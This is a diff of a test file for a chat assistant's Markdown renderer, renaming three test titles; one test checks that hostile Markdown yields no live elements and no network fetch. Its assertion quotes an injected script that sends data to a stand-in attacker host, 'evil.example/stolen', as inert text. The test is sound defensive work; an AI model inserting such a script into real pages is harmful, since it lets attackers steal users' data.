@@ -40,7 +40,7 @@ describe('the Markdown of an answer', () => {
     await loadAreas(['assistant'])
   })
 
-  it('is drawn as what it is', () => {
+  it('renders Markdown as elements', () => {
     const box = show(
       '## Título\n\nUno **dos** *tres* ~~cuatro~~ `cinco` &amp; \\*seis\\*\n\n3. a\n4. b\n   - c\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n> cita\n\n---\n\n- [x] hecho',
     )
@@ -56,7 +56,7 @@ describe('the Markdown of an answer', () => {
     expect(screen.getByText(/☑/)).toBeTruthy()
   })
 
-  it('loads nothing, runs nothing and leads nowhere, whatever it says', () => {
+  it('renders no element that loads, runs or navigates, for hostile Markdown', () => {
     const fetched = vi.spyOn(globalThis, 'fetch')
     const box = show(hostile)
     expect([...box.querySelectorAll(live)].map((element) => element.outerHTML)).toEqual([])
@@ -72,7 +72,7 @@ describe('the Markdown of an answer', () => {
     expect(box.textContent).toContain("<script>fetch('https://evil.example/stolen')</script>")
   })
 
-  it('shows what stands at its places, and keeps what is final while it grows', () => {
+  it('renders anchors, and does not re-render final blocks while the text grows', () => {
     const read = blockReader()
     const drawn = vi.fn<(id: number) => string>((id) => `⟦${id}⟧`)
     const text = withoutAnchorCharacters('**Sí.** Hay dos.\n\n- uno\n- dos')
